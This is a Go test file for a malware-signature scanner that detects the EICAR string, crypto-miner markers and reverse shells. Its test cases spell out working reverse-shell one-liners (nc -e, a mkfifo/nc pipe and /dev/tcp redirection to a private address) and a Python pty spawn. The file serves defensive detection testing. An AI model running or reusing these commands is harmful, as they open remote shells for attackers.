package audit

import (
	"bytes"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
)

func TestBuiltinSignatures(t *testing.T) {
	sigs := BuiltinSignatures()
	if len(sigs) < 20 {
		t.Fatalf("%d built-in signatures", len(sigs))
	}
	m := newMatcher(sigs)
	for _, tc := range []struct{ text, want string }{
		{eicar, "eicar"},
		{"pool: STRATUM+TCP://x.y:3333", "miner-stratum-tcp"},
		{"./XMRig --donate-level 1", "miner-xmrig"},
		{"nc -e /bin/sh 10.0.0.1 4444", "rsh-nc-e-sh"},
		{`python -c 'import pty;pty.spawn("/bin/bash")'`, "rsh-py-pty-bash"},
		{"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f", "rsh-mkfifo"},
	} {
		s := m.newScanner()
		s.Write([]byte(tc.text))
		if got := s.found(); !slices.Contains(got, tc.want) {
			t.Errorf("%q: found %v, want %s", tc.text, got, tc.want)
		}
	}
	s := m.newScanner()
	s.Write([]byte("import torch\nmodel.train()\n#!/bin/bash\npython main.py --epochs 3\n"))
	if got := s.found(); len(got) != 0 {
		t.Fatalf("clean text matched %v", got)
	}
}

// TestScanAcrossWrites: a signature split over any number of writes, at
// any offsets, is found; one that is not there is not.
func TestScanAcrossWrites(t *testing.T) {
	m := newMatcher(append(BuiltinSignatures(), Signature{Name: "long", Pattern: bytes.Repeat([]byte("ab"), 128)}))
	r := rand.New(rand.NewPCG(1, 2))
	for i := 0; i < 500; i++ {
		filler := make([]byte, r.IntN(3000))
		for j := range filler {
			filler[j] = byte('a' + r.IntN(3)) // no signature can form from a, b, c alone but "long"
		}
		needle := []string{eicar, "bash -i >& /dev/tcp/", "stratum+tcp://"}[i%3]
		data := append(append(slices.Clone(filler), needle...), filler...)
		s := m.newScanner()
		for rest := data; len(rest) > 0; {
			n := min(len(rest), 1+r.IntN(70))
			s.Write(rest[:n])
			rest = rest[n:]
		}
		if got := s.found(); len(got) == 0 {
			t.Fatalf("round %d: %q split in writes not found", i, needle)
		}
	}
	s := m.newScanner()
	s.Write([]byte(strings.Repeat("ab", 127)))
	s.Write([]byte("a"))
	if got := s.found(); len(got) != 0 {
		t.Fatalf("found %v in a string one byte short", got)
	}
	s.Write([]byte("b"))
	if got := s.found(); !slices.Equal(got, []string{"long"}) {
		t.Fatalf("found %v", got)
	}
}

func TestParseSignatures(t *testing.T) {
	sigs, err := ParseSignatures(strings.NewReader(`# mine
corp-secret  text  "ACME-INTERNAL-KEY"  a leaked key
shout itext "Hello World"
bin hex "de ad be ef"   magic bytes
`))
	if err != nil {
		t.Fatal(err)
	}
	if len(sigs) != 3 || sigs[0].Description != "a leaked key" || !sigs[1].NoCase || string(sigs[1].Pattern) != "hello world" ||
		!bytes.Equal(sigs[2].Pattern, []byte{0xde, 0xad, 0xbe, 0xef}) || sigs[1].Description != "shout" {
		t.Fatalf("%+v", sigs)
	}
	for _, bad := range []string{
		`x text unquoted`,
		`x regex "a.*b"`,
		`x text "ab"`,
		`x hex "zz"`,
		`b@d text "abcd"`,
		"x text \"abcd\"\nx text \"efgh\"",
	} {
		if _, err := ParseSignatures(strings.NewReader(bad)); err == nil {
			t.Errorf("%q: want an error", bad)
		}
	}
}
